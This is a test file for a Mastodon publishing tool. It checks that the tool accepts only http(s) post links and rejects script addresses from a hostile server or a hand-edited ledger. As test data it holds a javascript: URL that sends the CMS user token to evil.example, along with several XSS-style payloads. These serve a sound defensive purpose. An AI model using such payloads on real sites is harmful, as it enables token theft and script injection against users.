/**
 * The address of a published post comes from the network (Mastodon's `url` and `uri`) or from a
 * ledger anyone with push access to its branch can edit, and the site links to it. Only http(s)
 * addresses are recorded, read back or shown: a `javascript:` one would run on the site that hosts
 * the CMS and its GitHub token.
 */
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { ledgerKey } from '../../src/lib/publishing/schedule.ts';
import { channelStatus, ledgerLookup } from '../../src/lib/publishing/status.ts';
import { parseLedger, serializeLedger } from '../../src/lib/ledger/format.ts';
import type { Ledger } from '../../src/schemas/ledger.ts';
import { load, post, file } from '../helpers/project.ts';
import { mastodonToken, startMastodon, type FakeMastodon } from './fakes/mastodon.ts';
import { entry, heraldYaml, ledgerOf, postFile, projectOnDisk, runPublish, type TestProject } from './helpers.ts';

const due = '2026-12-03T17:35:00Z';
const script = 'javascript:fetch("https://evil.example/?t="+localStorage.getItem("sveltia-cms.user"))';

describe('a hostile Mastodon server names the published status', () => {
  let mastodon: FakeMastodon;
  let project: TestProject;
  const env = { HERALD_MASTODON_TOKEN: mastodonToken };

  beforeEach(async () => {
    mastodon = await startMastodon();
    project = await projectOnDisk({
      'content/herald.yaml': heraldYaml(`  - { id: mastodon, network: mastodon, instance: "${mastodon.url}" }\n`),
      'content/posts/2026/12/short.mdx': postFile(
        'title: Short\npublishAt: 2026-12-03 18:30\nchannels: [mastodon]',
        'Doors open at seven.',
      ),
    });
  });
  afterEach(async () => {
    await mastodon.close();
    await project.remove();
  });

  it('records the http(s) uri when the url is a script', async () => {
    mastodon.addresses = (id) => ({ uri: `${mastodon.url}/users/riverside/statuses/${id}`, url: script });
    const report = await runPublish(project, { now: due, env });
    const [status] = [...mastodon.statuses.values()];
    expect(report.outcomes).toMatchObject([{ post: 'short', kind: 'published', links: [status!.uri] }]);
    expect((await ledgerOf(project)).entries['short/mastodon']!.parts).toEqual([
      { id: status!.id, url: status!.uri, hash: expect.stringMatching(/^sha256:/) },
    ]);
  });

  it('records no address when neither is http(s), and the ledger still reads back', async () => {
    mastodon.addresses = () => ({ uri: 'tag:evil.example,2026:status', url: script });
    const report = await runPublish(project, { now: due, env });
    expect(report.outcomes).toMatchObject([{ post: 'short', kind: 'published', links: [] }]);
    const ledger = await ledgerOf(project);
    expect(ledger.entries['short/mastodon']).toMatchObject({ state: 'published', parts: [{ id: expect.any(String) }] });
    expect(ledger.entries['short/mastodon']!.parts[0]).not.toHaveProperty('url');
    // The next run reads the ledger it wrote and sends nothing again.
    expect((await runPublish(project, { now: '2026-12-03T17:50:00Z', env })).outcomes).toEqual([]);
  });
});

describe('a ledger edited by hand', () => {
  const withUrl = (url: string): Ledger => ({
    version: 1,
    entries: { 'agm/mastodon': { ...entry('agm'), state: 'published', parts: [{ id: '1', url }] } },
  });

  it.each([
    script,
    'JavaScript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:msgbox(1)',
    '/riverside-social/admin/',
  ])('is refused when a published part links to %s', (url) => {
    expect(() => parseLedger(serializeLedger(withUrl(url)), 'herald-ledger:ledger.json')).toThrow(
      /herald-ledger:ledger\.json is not a Herald ledger \(entries\.agm\/mastodon\.parts\.0\.url: write a full web address starting with https:\/\//,
    );
  });

  it('keeps an https link', () => {
    expect(
      parseLedger(serializeLedger(withUrl('https://mastodon.social/@riverside/113')), 'ledger.json').entries[
        'agm/mastodon'
      ]!.parts[0]!.url,
    ).toBe('https://mastodon.social/@riverside/113');
  });

  it('never turns a script address into a status link, even from a ledger that skipped the schema', () => {
    const { posts } = load([
      file('content/posts/2026/12/agm.mdx', post('title: AGM\npublishAt: 2026-12-03 18:30\nchannels: [mastodon]')),
    ]);
    const ledger: Ledger = {
      version: 1,
      entries: { [ledgerKey('agm', 'mastodon')]: { ...entry('agm'), parts: [{ id: '1', url: script }] } },
    };
    const status = channelStatus(posts[0]!, 'mastodon', {
      now: Date.parse(due),
      window: 'PT2H',
      paused: false,
      ledger: ledgerLookup(ledger),
    });
    expect(status).toEqual({ state: 'published' });
  });
});
